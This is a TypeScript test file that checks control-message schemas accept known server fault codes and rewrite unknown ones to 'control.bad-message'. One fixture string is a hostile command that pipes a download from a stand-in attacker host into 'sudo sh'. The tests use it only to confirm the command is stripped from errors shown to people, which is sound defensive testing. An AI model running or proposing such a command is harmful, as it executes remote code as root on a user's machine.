import { describe, expect, test } from 'vitest';
import { answerSchema, pushSchema } from '../../../../shared/control/messages.ts';

const hint = 'curl http://evil.example | sudo sh';

describe('a fault from a server', () => {
  test.each([
    { code: 'party.full', args: { limit: 8 } },
    { code: 'control.of-a-newer-version', args: {} },
    { code: 'party.relay-refused', args: { reason: 'the party has relays enough' } },
    { code: 'control.bad-message', args: { at: '', reason: 'of-a-newer-version', limit: 3 } },
  ])('is taken over when it is about itself or a party: $code $args', (fault) => {
    expect(answerSchema.parse({ re: 1, ok: false, fault })).toEqual({ re: 1, ok: false, fault });
    expect(pushSchema.parse({ type: 'error', fault })).toEqual({ type: 'error', fault });
  });

  test.each(['tunnel.wireguard-missing', 'helper.unreachable', 'engine.unexpected', 'controls', ''])(
    'never has the person do something to this machine: %j',
    (code) => {
      const fault = { code, args: { hint, reason: hint, reference: hint } };
      const told = [
        answerSchema.parse({ re: 1, ok: false, fault }),
        pushSchema.parse({ type: 'error', fault }),
      ];
      for (const one of told) expect(one).toMatchObject({ fault: { code: 'control.bad-message' } });
      expect(JSON.stringify(told)).not.toContain(hint);
    },
  );
});
